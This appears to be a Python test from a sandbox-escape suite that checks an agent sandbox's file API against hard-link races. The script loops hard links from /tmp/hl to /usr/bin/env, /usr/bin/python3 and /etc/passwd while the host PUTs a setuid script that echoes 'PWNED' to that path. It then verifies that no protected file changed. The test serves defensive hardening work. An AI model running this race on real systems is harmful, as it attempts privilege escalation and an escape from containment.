"""Hard-link races against the file API, where the writer (the agent) has more rights than
the file's owner might expect: inside the sandbox a loop keeps replacing /tmp/hl with hard
links to files the sandbox must not change for anyone else — a host binary on the read-only
/usr bind, the image's /etc/passwd (shared by every sandbox) — while the host side PUTs to
/tmp/hl with mode 04755 and deletes it, a few hundred times.
Blocked by: /usr is another, read-only mount (link() fails with EXDEV); the image is below
the overlay, so linking an image file copies it up first. Verified from the host: the image's
files and the hashes of /usr binaries are unchanged (runner checks, verify=binaries).
space-attack: sandbox=host-fresh verify=binaries timeout=60
"""
import urllib.parse

from hostside import SANDBOX, api, escaped, finish, note, sh

sh(SANDBOX, "cd /tmp; i=0; while [ $i -lt 100000 ]; do ln -f /usr/bin/env hl 2>/dev/null; "
            "ln -f /usr/bin/python3 hl 2>/dev/null; ln -f /etc/passwd hl; rm -f hl; "
            "i=$((i+1)); done", detach=True)
seen = {}
for i in range(200):
    r = api("PUT", "/v1/sandboxes/%s/files?path=%s&mode=04755" % (SANDBOX, urllib.parse.quote(
        "/tmp/hl")), b"#!/bin/sh\necho PWNED\n", {"Content-Type": "application/octet-stream"})
    seen["put %d" % r.status] = seen.get("put %d" % r.status, 0) + 1
    if i % 4 == 0:
        api("DELETE", "/v1/sandboxes/%s/files?path=/tmp/hl" % SANDBOX)
sh(SANDBOX, "pkill -f 'ln -f' ; true")
rc, out, err = sh(SANDBOX, "head -c 64 /usr/bin/env | grep -c PWNED; grep -c PWNED /etc/passwd; "
                           "ls -l /etc/passwd")
lines = out.decode().split("\n")
if lines and lines[0].strip() not in ("", "0"):
    escaped("/usr/bin/env was overwritten through a hard link")
note("200 racing PUTs: %s; /etc/passwd inside: %s" % (dict(sorted(seen.items())),
                                                      lines[2][:40] if len(lines) > 2 else "?"))
finish()
